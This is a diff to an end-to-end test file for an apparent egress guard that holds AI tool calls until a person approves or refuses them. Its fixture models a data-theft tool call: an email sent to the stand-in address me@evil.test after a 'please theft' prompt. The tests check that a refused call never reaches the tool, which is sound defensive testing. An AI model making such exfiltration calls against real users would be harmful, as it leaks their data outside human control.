@@ -24,7 +24,7 @@ from tests.model_clients import ask
 
 pytestmark = pytest.mark.e2e
 
-THEFT = ("email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
+THEFT = ("call_0", "email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
 HOLD = "version: 1\nname: hold\nask: {hold: 5m, quiet: 5m}\n"
 SOCKETS = BLOCKING.replace("mode: enforce", "mode: enforce\nask: {hold: 5m}").replace(
     "effect: block", "effect: ask"
@@ -62,13 +62,6 @@ def model(tmp_path_factory, no_proxy):
         yield place
 
 
-def raw(url, proxy=None):
-    """Ask for a streamed answer, which is read as it comes."""
-    message = {"role": "user", "content": "please theft"}
-    asked = {"model": "m", "stream": True, "messages": [message]}
-    return Posting(f"{url}/v1/chat/completions", asked, proxy)
-
-
 @CLIENTS
 async def test_a_call_in_an_answer_waits_and_arrives_as_it_was(model, api):
     """One yes releases one, and a no reads as words; every client waits that long."""
@@ -80,7 +73,7 @@ async def test_a_call_in_an_answer_waits_and_arrives_as_it_was(model, api):
             await answered(people, granted=granted)
             found.append((await waiting)[:2])
 
-    assert found[0] == ("Let me see.", [THEFT])
+    assert found[0] == ("Let me see. ", [THEFT])
     assert found[1][1] == []
     assert "by the egress guard and did not reach the tool" in found[1][0]
 
@@ -186,7 +179,10 @@ async def test_what_comes_while_a_call_is_held_has_a_bound(tmp_path):
     with holding(
         tmp_path, HOLD + opened(server.port), server, *options, *forwarding(tmp_path, proxy)
     ):
-        asked = raw(f"http://localhost:{server.port}", f"http://127.0.0.1:{proxy}")
+        message = {"role": "user", "content": "please theft"}
+        document = {"model": "m", "stream": True, "messages": [message]}
+        url = f"http://localhost:{server.port}/v1/chat/completions"
+        asked = Posting(url, document, f"http://127.0.0.1:{proxy}")
         async with asyncio.timeout(SECONDS):
             [ended] = await asyncio.gather(asked.task, return_exceptions=True)
 
